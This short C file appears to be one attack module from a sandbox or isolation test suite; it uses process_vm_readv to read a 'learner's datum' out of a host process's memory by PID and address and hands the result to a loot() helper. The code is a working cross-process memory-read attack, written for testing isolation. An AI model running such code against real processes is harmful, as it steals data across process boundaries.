/* Reads a learner's datum out of the host's memory. */
#include "../attack.h"

#include <sys/uio.h>

static void attack(void) {
    char datum[32];
    struct iovec here = {datum, sizeof datum}, there = {(void*)target_number("host_datum"), sizeof datum};
    const ssize_t size = process_vm_readv((pid_t)target_number("host_pid"), &here, 1, &there, 1, 0);
    if (size > 0)
        loot(datum, (size_t)size);
}
